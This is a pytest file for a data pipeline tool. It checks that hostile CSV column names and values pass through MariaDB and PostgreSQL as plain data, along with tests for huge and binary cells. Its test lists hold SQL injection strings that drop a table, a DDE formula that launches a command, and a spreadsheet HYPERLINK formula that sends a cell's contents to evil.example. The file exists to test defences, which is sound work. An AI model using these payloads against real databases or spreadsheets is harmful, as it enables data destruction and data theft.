"""The data itself as the attacker: values that look like SQL, column names built to break
out of quoting, spreadsheet formulas, huge and binary cells.

Data never becomes code: values travel as Arrow batches, COPY and LOAD DATA files, and
column names are quoted wherever Osiris writes SQL. A hostile CSV goes through DuckDB
into MariaDB and PostgreSQL tables and back out as CSV, byte for byte, and a sentinel
table in each database is still there. What is not defended is said so: a cell that
starts with `=` is written as it is (the CSV is lossless; a spreadsheet opening it is the
reader's risk), and a failing driver's message may quote a value (cut to 2,000
characters, runtime/runner.py MAX_ERROR_CHARS).
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pymysql
import pytest

pytestmark = pytest.mark.db

#: Column names that would end a quoted identifier, start a comment, or break a line.
HOSTILE_COLUMNS = [
    "id",
    'x"); DROP TABLE sentinel; --',
    "a`b`); DROP TABLE sentinel; --",
    "line\nbreak",
    "select",
    "ünïcødé",
    "y" * 60,
    "=cmd|' /C calc'!A0",
]
#: Values that look like SQL, formulas, escapes and control characters.
HOSTILE_VALUES = [
    "1",
    "'); DROP TABLE sentinel; --",
    '=HYPERLINK("http://evil.example/?d="&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "tab\there \\N \\' \\\\ $$ /*! 1 */",
    "x" * 10,
]


def csv_text(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


PIPELINE = """\
oml_version: "0.1.0"
name: hostile
steps:
  - id: src
    component: filesystem.csv_extractor
    mode: read
    config: {path: data/hostile.csv, dtype: {id: VARCHAR}}
  - id: to_mysql
    component: mysql.writer
    mode: write
    inputs: {df: "${src.df}"}
    config: {table: hostile, write_mode: replace}
  - id: to_postgres
    component: postgres.writer
    mode: write
    inputs: {df: "${src.df}"}
    config: {table: hostile, write_mode: replace}
  - id: from_mysql
    component: mysql.extractor
    mode: read
    needs: [to_mysql]
    config: {table: hostile}
  - id: from_postgres
    component: postgres.extractor
    mode: read
    needs: [to_postgres]
    config: {table: hostile}
  - id: out_mysql
    component: filesystem.csv_writer
    mode: write
    inputs: {df: "${from_mysql.df}"}
    config: {path: output/from_mysql.csv}
  - id: out_postgres
    component: filesystem.csv_writer
    mode: write
    inputs: {df: "${from_postgres.df}"}
    config: {path: output/from_postgres.csv}
"""


@pytest.fixture
def project(tmp_path: Path, mysql_db: dict[str, Any], pg_db: dict[str, Any]) -> Path:
    root = tmp_path / "project"
    (root / "data").mkdir(parents=True)
    (root / "osiris_connections.yaml").write_text(
        "connections:\n"
        "  filesystem:\n    local: {default: true, base_dir: .}\n"
        "  mysql:\n    main:\n"
        f"      host: 127.0.0.1\n      port: 3306\n      user: root\n"
        f"      database: {mysql_db['database']}\n"
        "  postgres:\n    main:\n"
        "      host: 127.0.0.1\n      port: 5432\n      user: postgres\n      database: test\n"
        f"      schema: {pg_db['schema']}\n"
    )
    pymysql.connect(**mysql_db, autocommit=True).cursor().execute("CREATE TABLE sentinel (id INT)")
    _pg(pg_db, f'CREATE TABLE "{pg_db["schema"]}".sentinel (id int)')
    return root


def _pg(pg_db: dict[str, Any], statement: str) -> list[tuple[Any, ...]]:
    import psycopg

    with psycopg.connect(
        "host={host} port={port} user={user} dbname={database}".format(**pg_db), autocommit=True
    ) as conn:
        cursor = conn.execute(statement)
        return cursor.fetchall() if cursor.description else []


def osiris(project: Path, *args: str) -> tuple[int, dict[str, Any]]:
    done = subprocess.run(
        [sys.executable, "-m", "osiris_mcp.cli", *args, "--json"],
        cwd=project,
        env={k: v for k, v in os.environ.items() if not k.startswith("OSIRIS_")},
        capture_output=True,
        text=True,
        timeout=300,
    )
    out = done.stdout
    return done.returncode, json.loads(out[out.index("{") : out.rindex("}") + 1])


def test_hostile_names_and_values_travel_as_data(
    project: Path, mysql_db: dict[str, Any], pg_db: dict[str, Any]
) -> None:
    source = csv_text([HOSTILE_COLUMNS, HOSTILE_VALUES])
    (project / "data" / "hostile.csv").write_text(source, encoding="utf-8")
    (project / "pipelines.yaml").write_text(PIPELINE)

    code, result = osiris(project, "run", "pipelines.yaml")

    assert (code, result["status"]) == (0, "success"), result
    # the databases hold the names and values verbatim, and lost nothing else
    conn = pymysql.connect(**mysql_db)
    with conn.cursor() as cursor:
        cursor.execute(
            "SELECT COLUMN_NAME FROM information_schema.COLUMNS WHERE TABLE_SCHEMA = %s "
            "AND TABLE_NAME = 'hostile' ORDER BY ORDINAL_POSITION",
            (mysql_db["database"],),
        )
        assert [row[0] for row in cursor.fetchall()] == HOSTILE_COLUMNS
        cursor.execute("SHOW TABLES")
        assert sorted(row[0] for row in cursor.fetchall()) == ["hostile", "sentinel"]
    conn.close()
    schema = pg_db["schema"]
    assert _pg(pg_db, f'SELECT * FROM "{schema}".hostile') == [tuple(HOSTILE_VALUES)]
    columns = _pg(
        pg_db,
        "SELECT column_name FROM information_schema.columns WHERE table_schema = "
        f"'{schema}' AND table_name = 'hostile' ORDER BY ordinal_position",
    )
    assert [row[0] for row in columns] == HOSTILE_COLUMNS
    tables = _pg(pg_db, f"SELECT tablename FROM pg_tables WHERE schemaname = '{schema}'")
    assert sorted(row[0] for row in tables) == ["hostile", "sentinel"]
    # and back out, byte for byte: formulas included (not defended: the CSV is lossless)
    for name in ("from_mysql.csv", "from_postgres.csv"):
        assert (project / "output" / name).read_text(encoding="utf-8") == source, name
    assert '"=HYPERLINK(""http://evil.example/?d=""&A1)"' in source


def test_a_huge_cell_fails_cleanly_and_briefly(project: Path) -> None:
    """A line longer than the CSV reader takes fails as a data error; the message that
    quotes it is cut, so status.json, events and every client stay small."""
    (project / "data" / "hostile.csv").write_text("id,blob\n1," + "B" * (3 << 20) + "\n")
    (project / "pipelines.yaml").write_text(
        'oml_version: "0.1.0"\nname: huge\nsteps:\n  - id: src\n'
        "    component: filesystem.csv_extractor\n    mode: read\n"
        "    config: {path: data/hostile.csv}\n"
    )
    code, result = osiris(project, "run", "pipelines.yaml")
    (step,) = result["steps"]
    assert (code, step["status"], step["category"]) == (1, "failed", "data"), step
    assert len(step["error"]) <= 2100 and "Traceback" not in step["error"]
    session = Path(result["session_dir"])
    assert (session / "status.json").stat().st_size < 20_000
    assert (session / "events.jsonl").stat().st_size < 40_000


def test_a_big_cell_within_limits_round_trips(project: Path) -> None:
    value = "é" * (512 << 10)  # 1 MB of UTF-8 in one cell
    source = csv_text([["id", "blob"], ["1", value]])
    (project / "data" / "hostile.csv").write_text(source, encoding="utf-8")
    (project / "pipelines.yaml").write_text(PIPELINE)
    code, result = osiris(project, "run", "pipelines.yaml")
    assert (code, result["status"]) == (0, "success"), result
    for name in ("from_mysql.csv", "from_postgres.csv"):
        assert (project / "output" / name).read_text(encoding="utf-8") == source, name


def test_a_binary_file_is_refused_as_data(project: Path) -> None:
    (project / "data" / "hostile.csv").write_bytes(b"id,bin\n1,\xff\xfe\x00\x01\x80\n")
    (project / "pipelines.yaml").write_text(
        'oml_version: "0.1.0"\nname: binary\nsteps:\n  - id: src\n'
        "    component: filesystem.csv_extractor\n    mode: read\n"
        "    config: {path: data/hostile.csv}\n"
    )
    code, result = osiris(project, "run", "pipelines.yaml")
    (step,) = result["steps"]
    assert (code, step["status"], step["category"]) == (1, "failed", "data"), result
    assert "not utf-8" in step["error"] and "Traceback" not in step["error"]
